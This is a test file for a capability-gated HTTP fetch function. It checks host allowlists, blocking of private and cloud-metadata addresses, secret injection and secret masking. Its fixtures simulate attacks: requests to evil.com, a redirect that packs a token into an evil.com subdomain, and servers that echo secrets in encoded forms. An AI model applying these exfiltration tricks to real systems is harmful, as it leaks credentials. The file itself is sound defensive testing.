import type { RequestListener } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { inspect } from 'node:util';
import { gzipSync } from 'node:zlib';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { NetCapability, SecretCapability } from '../../src/contracts.ts';
import type { WeaverError } from '../../src/errors.ts';
import { createLog } from '../../src/log.ts';
import { createKeyring } from '../../src/secrets/keyring.ts';
import { openSecret, setSecret } from '../../src/secrets/table.ts';
import { createFetch, type FetchRecord } from '../../src/skills/fetch.ts';
import { openDatabase } from '../../src/store/database.ts';
import { person } from '../helpers/app.ts';
import { openWorld } from '../helpers/world.ts';

const api = 'https://api.example.com';
const token = 'ghp_Abc/def+123?45=xyz';
const bearer = { authorization: 'Bearer {{secret:TOKEN}}' };
const ring = createKeyring({ home: '/nowhere', key: ['7'.repeat(64)] });

interface Grants {
  net?: NetCapability[];
  secrets?: SecretCapability[];
  policy?: { anyHost?: boolean; privateHosts?: string[] };
}

/** `ctx.fetch` of code with these capabilities, in a world where api.example.com answers so; one secret is kept. */
async function fetchOf(handler: RequestListener, grants: Grants = {}) {
  const world = openWorld();
  await world.serve(api, handler);
  const database = await openDatabase(':memory:');
  onTestFinished(() => database.close());
  await setSecret(database, ring, person, { name: 'TOKEN', value: token, hosts: ['api.example.com'] }, 0);
  const records: FetchRecord[] = [];
  const fetch = createFetch({
    transport: world.transport,
    grants: {
      net: grants.net ?? [{ host: 'api.example.com' }],
      secrets: grants.secrets ?? [{ name: 'TOKEN', host: 'api.example.com', header: 'Authorization' }],
    },
    policy: grants.policy ?? {},
    openSecret: (name) => openSecret(database, ring, 'local', name),
    record: (one) => records.push(one),
  });
  const send = (url: unknown, init?: unknown) => fetch.send(url, init, new AbortController().signal);
  const refusal = async (url: unknown, init?: unknown): Promise<WeaverError> =>
    send(url, init).then(
      () => expect.fail('it was sent'),
      (error) => error,
    );
  return { ...world, database, fetch, send, refusal, records };
}

/** Answers with what it was sent. */
const echo: RequestListener = async (request, response) => {
  const { method, url, headers } = request;
  const body = (await buffer(request)).toString('base64');
  response.setHeader('content-type', 'application/json').end(JSON.stringify({ method, url, headers, body }));
};

const ok: RequestListener = (_request, response) => void response.end('ok');

/** What a server saw, to look at the secret itself. */
function watching() {
  const seen: (string | undefined)[] = [];
  const handler: RequestListener = (request, response) => {
    seen.push(request.headers.authorization);
    response.end('ok');
  };
  return { seen, handler };
}

describe('fetch', () => {
  it('gives status, headers, address and text as JSON', async () => {
    const { send } = await fetchOf(async (request, response) => {
      response.statusCode = 201;
      response.statusMessage = 'Made';
      await echo(request, response);
    });
    const answer = await send(`${api}/items?a=1`, { method: 'post', headers: { 'X-A': 'b' }, body: 'größer' });
    expect(answer).toEqual(JSON.parse(JSON.stringify(answer)));
    expect(answer).toMatchObject({ status: 201, statusText: 'Made', url: `${api}/items?a=1`, bodyEncoding: 'utf8' });
    expect(answer.headers['content-type']).toBe('application/json');
    expect(JSON.parse(answer.body)).toMatchObject({
      method: 'POST',
      url: '/items?a=1',
      body: Buffer.from('größer').toString('base64'),
    });
    expect(await send(api)).toMatchObject({ status: 201 });
  });

  it('takes and gives bytes as base64', async () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 255, 254]);
    const { send } = await fetchOf(async (request, response) => {
      response.end(await buffer(request));
    });
    expect(await send(api, { method: 'POST', body: png.toString('base64'), bodyEncoding: 'base64' })).toMatchObject({
      body: png.toString('base64'),
      bodyEncoding: 'base64',
    });
  });

  it.each([
    ['text/plain; charset=iso-8859-1', Buffer.from('größer', 'latin1'), 'größer'],
    ['text/plain; charset="UTF-16LE"', Buffer.from('größer', 'utf16le'), 'größer'],
    ['application/octet-stream', Buffer.from('plain after all'), 'plain after all'],
    ['text/plain; charset=made-up', Buffer.from('größer'), 'größer'],
    ['text/plain; charset=us-ascii', Buffer.from('plain'), 'plain'],
  ])('reads text of type %s', async (type, bytes, text) => {
    const { send } = await fetchOf((_request, response) => void response.setHeader('content-type', type).end(bytes));
    expect(await send(api)).toMatchObject({ body: text, bodyEncoding: 'utf8' });
  });

  it('reaches the hosts of its capabilities by their methods and ports, and no others', async () => {
    const { send, refusal, serve, connections } = await fetchOf(ok, {
      net: [
        { host: 'api.example.com', methods: ['GET'] },
        { host: '*.wild.example.com', ports: [8443] },
      ],
    });
    await serve('https://a.wild.example.com:8443', ok);
    expect((await send(api)).body).toBe('ok');
    expect((await send('https://a.wild.example.com:8443/')).body).toBe('ok');
    for (const [url, init] of [
      [api, { method: 'POST' }],
      [`${api}:8443`],
      ['https://wild.example.com:8443/'],
      ['https://evil.com/'],
    ] as const) {
      expect(await refusal(url, init)).toMatchObject({
        code: 'not_allowed',
        hint: expect.stringContaining('api.example.com (GET)'),
      });
    }
    expect(connections).toHaveLength(2);
  });

  it('reaches a private place only where a reviewer saw it or the operator named it', async () => {
    const net = [
      { host: '10.0.0.5' },
      { host: 'localhost', ports: [8080] },
      { host: 'intranet.example.com' },
      { host: 'other.example.com' },
    ];
    const { send, refusal, names, serve } = await fetchOf(ok, {
      net,
      policy: { privateHosts: ['intranet.example.com'] },
    });
    names
      .set('localhost', ['127.0.0.1', '::1'])
      .set('intranet.example.com', ['10.0.0.6'])
      .set('other.example.com', ['10.0.0.7']);
    for (const origin of [
      'http://10.0.0.5',
      'http://localhost:8080',
      'http://intranet.example.com',
      'http://other.example.com',
    ])
      await serve(origin, ok);
    for (const url of ['http://10.0.0.5/', 'http://localhost:8080/', 'http://intranet.example.com/'])
      expect((await send(url)).body).toBe('ok');
    expect(await refusal('http://other.example.com/')).toMatchObject({
      code: 'not_allowed',
      message: expect.stringContaining('private address'),
    });
    expect(await refusal('http://localhost/')).toMatchObject({ code: 'not_allowed' });
    const metadata = await fetchOf(ok, {
      net: [{ host: '169.254.169.254' }],
      policy: { privateHosts: ['169.254.169.254'] },
    });
    expect(await metadata.refusal('http://169.254.169.254/')).toMatchObject({ code: 'not_allowed' });
    expect(metadata.connections).toEqual([]);
  });

  it('reaches every public host where policy says so, and is not made of such a capability otherwise', async () => {
    const { send, serve } = await fetchOf(ok, { net: [{ host: '*' }], policy: { anyHost: true } });
    await serve('https://other.example.com', ok);
    expect((await send('https://other.example.com/')).body).toBe('ok');
    await expect(fetchOf(ok, { net: [{ host: '*' }] })).rejects.toMatchObject({ code: 'bad_input' });
  });

  it.each<[unknown, unknown, RegExp]>([
    [undefined, undefined, /address is none/],
    [{ href: api }, undefined, /address is none/],
    ['/items', undefined, /address is none/],
    [api, 'POST', /expected object/],
    [api, { method: 1 }, /method: .*string/],
    [api, { headers: [['a', 'b']] }, /headers: .*record/],
    [api, { headers: { a: 1 } }, /headers: a: .*string/],
    [api, { body: { a: 1 } }, /body: /],
    [api, { redirect: 'manual' }, /redirect/],
    [api, { method: 'POST', body: 'not base64!', bodyEncoding: 'base64' }, /not base64/],
    [api, { headers: { a: 'b\r\nc: d' } }, /line break/],
    [api, { headers: { host: 'intranet' } }, /"host" is set by ToolWeaver/],
  ])('of %j with %j is an error that says why', async (url, init, message) => {
    const { refusal, connections } = await fetchOf(ok);
    expect(await refusal(url, init)).toMatchObject({
      code: 'bad_input',
      message: expect.stringMatching(message),
      hint: expect.any(String),
    });
    expect(connections).toEqual([]);
  });

  it('leaves a record of where, how much and how long, of failures too, and never of what', async () => {
    const { send, refusal, records } = await fetchOf((request, response) => {
      if (request.url === '/from') response.writeHead(307, { location: '/to' }).end();
      else response.end('answer');
    });
    await send(`${api}/from`, { method: 'POST', headers: bearer, body: 'größer' });
    await refusal('https://evil.com/private?password=hunter2');
    await refusal(`${api}/`, { headers: { authorization: 'Bearer {{secret:OTHER}}' } });
    const durationMs = expect.any(Number);
    expect(records).toEqual([
      {
        hosts: ['api.example.com', 'api.example.com'],
        method: 'POST',
        status: 200,
        bytesOut: 8,
        bytesIn: 6,
        secrets: ['TOKEN'],
        durationMs,
      },
      { hosts: ['evil.com'], method: 'GET', error: 'not_allowed', bytesOut: 0, bytesIn: 0, secrets: [], durationMs },
      {
        hosts: ['api.example.com'],
        method: 'GET',
        error: 'not_allowed',
        bytesOut: 0,
        bytesIn: 0,
        secrets: [],
        durationMs,
      },
    ]);
    expect(JSON.stringify(records)).not.toMatch(/ghp_|hunter2/);
  });

  it('ends with its run', async () => {
    const { fetch } = await fetchOf(() => {});
    await expect(fetch.send(api, {}, AbortSignal.timeout(50))).rejects.toMatchObject({ code: 'cancelled' });
  });
});

describe('a secret in fetch', () => {
  it('is filled in by the host process', async () => {
    const { seen, handler } = watching();
    const { send } = await fetchOf(handler);
    await send(api, { headers: bearer });
    await send(api, { headers: { Authorization: 'token {{ secret:TOKEN }}' } });
    expect(seen).toEqual([`Bearer ${token}`, `token ${token}`]);
  });

  it('may go in another header that both capability and binding name', async () => {
    let seen: unknown;
    const { send, database } = await fetchOf(
      (request, response) => {
        seen = request.headers['x-api-key'];
        response.end();
      },
      { secrets: [{ name: 'KEY', host: 'api.example.com', header: 'X-Api-Key' }] },
    );
    await setSecret(
      database,
      ring,
      person,
      { name: 'KEY', value: 'key of the shop', hosts: ['api.example.com'], header: 'x-api-key' },
      0,
    );
    await send(api, { headers: { 'x-API-key': '{{secret:KEY}}' } });
    expect(seen).toBe('key of the shop');
  });

  it.each<[string, string, Record<string, string>, Grants, RegExp]>([
    ['to another host', 'https://other.example.com/', bearer, {}, /not granted to this code for other\.example\.com/],
    [
      'to another host that it was granted for and is not bound to',
      'https://other.example.com/',
      bearer,
      { secrets: [{ name: 'TOKEN', host: 'other.example.com', header: 'authorization' }] },
      /not bound to other\.example\.com/,
    ],
    [
      'to another host by a wide capability',
      'https://other.example.com/',
      bearer,
      { secrets: [{ name: 'TOKEN', host: '*.example.com', header: 'authorization' }] },
      /not bound to other\.example\.com/,
    ],
    ['to another port', 'https://api.example.com:8443/', bearer, {}, /not bound to api\.example\.com:8443/],
    ['in another header', api, { 'x-log': '{{secret:TOKEN}}' }, {}, /not granted .* in the header x-log/],
    [
      'in another header that it was granted for and is not bound to',
      api,
      { 'x-log': '{{secret:TOKEN}}' },
      { secrets: [{ name: 'TOKEN', host: 'api.example.com', header: 'x-log' }] },
      /not bound to .* in the header x-log/,
    ],
    ['over http', 'http://api.example.com/', bearer, {}, /over https only, not to http:/],
    ['without a capability', api, bearer, { secrets: [] }, /not granted the secret "TOKEN"/],
    ['under another name', api, { authorization: '{{secret:token}}' }, {}, /not granted the secret "token"/],
    [
      'beside one that was not granted',
      api,
      { authorization: '{{secret:TOKEN}} {{secret:OTHER}}' },
      {},
      /not granted the secret "OTHER"/,
    ],
    ['in a broken form', api, { authorization: '{{secret:TOKEN}} {{secret:{x}}' }, {}, /a form that is none/],
    ['with a name made of another', api, { authorization: '{{secret:{{secret:TOKEN}}}}' }, {}, /a form that is none/],
  ])('does not go %s', async (_where, url, headers, grants, message) => {
    const net = [{ host: 'api.example.com', ports: [80, 443, 8443] }, { host: 'other.example.com' }];
    const { refusal, serve, connections } = await fetchOf(ok, { net, ...grants });
    await serve('http://api.example.com', ok);
    await serve('https://api.example.com:8443', ok);
    await serve('https://other.example.com', ok);
    const error = await refusal(url, { headers });
    expect(error).toMatchObject({
      code: 'not_allowed',
      message: expect.stringMatching(message),
      hint: expect.any(String),
    });
    expect([JSON.stringify(error).includes(token), connections]).toEqual([false, []]);
  });

  it.each([
    ['address', `${api}/?q={{secret:TOKEN}}`, {}],
    ['body', api, { method: 'POST', body: '{"a":"{{secret:TOKEN}}"}' }],
    ['name of a header', api, { headers: { '{{secret:TOKEN}}': 'x' } }],
  ])('does not go into the %s', async (where, url, init) => {
    const { refusal, connections } = await fetchOf(ok);
    expect(await refusal(url, init)).toMatchObject({
      code: 'bad_input',
      message: expect.stringContaining(where),
      hint: expect.stringContaining('authorization'),
    });
    expect(connections).toEqual([]);
  });

  it('that is not kept, or cannot be opened, is an error when it is asked for, and only then', async () => {
    const secrets = ['TOKEN', 'NONE'].map((name) => ({ name, host: 'api.example.com', header: 'authorization' }));
    const { send, refusal, database } = await fetchOf(echo, { secrets });
    expect((await send(api, { headers: bearer })).status).toBe(200);
    expect(await refusal(api, { headers: { authorization: '{{secret:NONE}}' } })).toMatchObject({ code: 'not_found' });
    const stranger = createKeyring({ home: '/nowhere', key: ['8'.repeat(64)] });
    const broken = createFetch({
      ...{ transport: openWorld().transport, grants: { net: [{ host: 'api.example.com' }], secrets } },
      ...{ policy: {}, openSecret: (name: string) => openSecret(database, stranger, 'local', name), record: () => {} },
    });
    await expect(broken.send(api, { headers: bearer }, AbortSignal.timeout(5_000))).rejects.toMatchObject({
      code: 'secret_unreadable',
    });
  });

  it('in a header of its own does not follow a redirect to another origin either', async () => {
    const seen: unknown[] = [];
    const secrets = [{ name: 'KEY', host: 'api.example.com', header: 'x-api-key' }];
    const net = [{ host: 'api.example.com' }, { host: 'other.example.com' }];
    const { send, serve, database } = await fetchOf(
      (_request, response) => void response.writeHead(307, { location: 'https://other.example.com/' }).end(),
      { net, secrets },
    );
    await serve('https://other.example.com', (request, response) => {
      seen.push(request.headers['x-api-key'], request.headers['x-a']);
      response.end();
    });
    const draft = { name: 'KEY', value: 'key of the shop', hosts: ['api.example.com'], header: 'x-api-key' };
    await setSecret(database, ring, person, draft, 0);
    await send(api, { headers: { 'x-api-key': '{{secret:KEY}}', 'x-a': 'b' } });
    expect(seen).toEqual([undefined, 'b']);
  });

  it('does not follow a redirect to another origin, nor one to http', async () => {
    const { seen, handler } = watching();
    let location = 'https://other.example.com/';
    const { send, refusal, serve } = await fetchOf(
      (request, response) => {
        if (request.url === '/from') response.writeHead(302, { location }).end();
        else handler(request, response);
      },
      { net: [{ host: 'api.example.com' }, { host: 'other.example.com' }] },
    );
    await serve('https://other.example.com', handler);
    await serve('http://api.example.com', handler);
    await send(`${api}/from`, { headers: bearer });
    expect(seen).toEqual([undefined]);
    location = 'http://api.example.com/';
    expect(await refusal(`${api}/from`, { headers: bearer })).toMatchObject({
      code: 'not_allowed',
      message: expect.stringContaining('from https to http'),
    });
    location = '/to';
    await send(`${api}/from`, { headers: bearer });
    expect(seen).toEqual([undefined, `Bearer ${token}`]);
  });
});

describe('a server that echoes a secret', () => {
  const written: Record<string, (value: string) => string | Buffer> = {
    plainly: (value) => value,
    'as JSON': (value) => JSON.stringify({ said: `Bearer ${value}` }),
    'URL-encoded': encodeURIComponent,
    'URL-encoded twice': (value) => encodeURIComponent(encodeURIComponent(value)),
    'as base64': (value) => Buffer.from(value).toString('base64'),
    'as base64, one byte on': (value) => Buffer.from(`x${value}`).toString('base64'),
    'as base64, two bytes on': (value) => Buffer.from(`xy${value}z`).toString('base64'),
    'as base64 for URLs': (value) => Buffer.from(`Bearer ${value}`).toString('base64url'),
    'as hexadecimal digits': (value) => Buffer.from(value).toString('hex'),
    'as HTML': (value) => [...value].map((letter) => `&#${letter.charCodeAt(0)};`).join(''),
    'in UTF-16 without saying so': (value) => Buffer.from(value, 'utf16le'),
    'among bytes that are no text': (value) =>
      Buffer.concat([Buffer.from([0xff, 0xfe, 0]), Buffer.from(value), Buffer.from([0xff])]),
    'as base64 among bytes that are no text': (value) =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe, 0]),
        Buffer.from(Buffer.from(value).toString('base64')),
        Buffer.from([0xff]),
      ]),
  };
  const isLeaked = (text: string): boolean => {
    const whole = Buffer.from(token);
    const ways = [
      token,
      encodeURIComponent(token),
      whole.toString('base64').slice(0, -4),
      whole.toString('base64url').slice(0, -4),
      whole.toString('hex'),
    ];
    return [text, Buffer.from(text, 'base64').toString('latin1'), text.replaceAll('\0', '')].some((one) =>
      ways.some((way) => one.includes(way)),
    );
  };
  const tell = (how: string, authorization = ''): string | Buffer =>
    written[how]?.(authorization.replace('Bearer ', '')) ?? '';

  it.each(Object.keys(written))('%s tells the code nothing', async (how) => {
    const { send } = await fetchOf((request, response) => void response.end(tell(how, request.headers.authorization)));
    const { body } = await send(api, { headers: bearer });
    expect(isLeaked(body)).toBe(false);
    expect(body + Buffer.from(body, 'base64').toString('latin1')).toContain('[secret:TOKEN]');
  });

  it('in headers, the reason, the address or a packed body tells the code nothing', async () => {
    const { send } = await fetchOf((request, response) => {
      const value = request.headers.authorization ?? '';
      if (request.url === '/')
        return void response.writeHead(302, { location: `/?leak=${encodeURIComponent(value)}` }).end();
      response.statusMessage = `Hello ${value}`;
      response
        .setHeader('x-echo', value)
        .setHeader(`x-${Buffer.from(value).toString('hex')}`, 'name')
        .setHeader('set-cookie', [`a=${encodeURIComponent(value)}`]);
      response.setHeader('content-encoding', 'gzip').end(gzipSync(value));
    });
    const answer = await send(api, { headers: bearer });
    expect(isLeaked(JSON.stringify(answer))).toBe(false);
    expect(answer).toMatchObject({
      statusText: 'Hello Bearer [secret:TOKEN]',
      url: `${api}/?leak=Bearer%20[secret:TOKEN]`,
      body: 'Bearer [secret:TOKEN]',
      headers: { 'x-echo': 'Bearer [secret:TOKEN]', 'set-cookie': 'a=Bearer%20[secret:TOKEN]' },
    });
  });

  it('in a later answer, when the secret was not sent, tells the code nothing', async () => {
    let kept = '';
    const { send } = await fetchOf((request, response) => {
      kept ||= request.headers.authorization ?? '';
      response.end(kept);
    });
    await send(api, { headers: bearer });
    expect((await send(api)).body).toBe('Bearer [secret:TOKEN]');
  });

  it('in what becomes an error tells nobody anything, not the log either', async () => {
    const hostOf = (value: string): string =>
      value
        .replace('Bearer ', '')
        .replaceAll(/[^a-z0-9]/gi, '')
        .toLowerCase();
    const secret = 'abcdefghij0123456789';
    const { send, database } = await fetchOf((request, response) => {
      response.writeHead(302, { location: `https://${hostOf(request.headers.authorization ?? '')}.evil.com/` }).end();
    });
    await setSecret(database, ring, person, { name: 'TOKEN', value: secret, hosts: ['api.example.com'] }, 1);
    const error = await send(api, { headers: bearer }).catch((thrown) => thrown);
    expect(error).toMatchObject({ code: 'not_allowed', message: expect.stringContaining('[secret:TOKEN].evil.com') });
    expect(JSON.stringify(error) + String(error.stack) + String(error.cause)).not.toContain(secret);
  });

  it('in what is no HTTP tells the log nothing', async () => {
    const { refusal } = await fetchOf((request) => {
      request.socket.end(`${request.headers.authorization}\r\n`);
    });
    const error = await refusal(api, { headers: bearer });
    expect(error).toMatchObject({ code: 'unavailable', message: 'api.example.com sent what is not HTTP.' });
    const lines: string[] = [];
    createLog('warn', { write: (line) => lines.push(line) }).warn({ error }, 'a request failed');
    expect(lines.join()).toContain('HTTPParserError');
    expect(inspect(error, { depth: 9 }) + lines.join()).not.toContain(token);
  });

  it('to another skill of the run tells it nothing either: the mask is there for all that leaves', async () => {
    const { fetch } = await fetchOf(ok);
    const mask = await fetch.mask();
    expect(mask.json({ value: [`got ${token}`] })).toEqual({ value: ['got [secret:TOKEN]'] });
  });
});
